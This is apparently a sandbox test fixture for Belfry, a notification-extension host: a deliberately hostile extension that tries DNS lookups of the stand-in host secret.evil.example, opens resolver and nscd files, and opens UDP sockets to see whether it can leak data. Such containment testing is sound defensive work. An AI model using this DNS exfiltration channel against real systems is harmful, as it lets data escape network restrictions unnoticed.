/* SPDX-License-Identifier: Apache-2.0
 * Part of Belfry, a host for notification extensions. */

/* Tries to tell a stranger something by looking up names. */
#include "hostile.h"
#include <netdb.h>

static void did_receive(void *self, bf_request request, bf_completion completion) {
    struct addrinfo *found = NULL, hints = {.ai_socktype = SOCK_STREAM};
    note_number("lookup", getaddrinfo("secret.evil.example", "80", &hints, &found) == 0);
    note_number("service", gethostbyname("secret.evil.example") != NULL);
    try_open("resolver", "/etc/resolv.conf", O_RDONLY);
    try_open("cache", "/var/run/nscd/socket", O_RDWR);
    note("datagram", socket(AF_INET, SOCK_DGRAM, 0));
    note("datagram6", socket(AF_INET6, SOCK_DGRAM, 0));
    completion(reported(request));
}
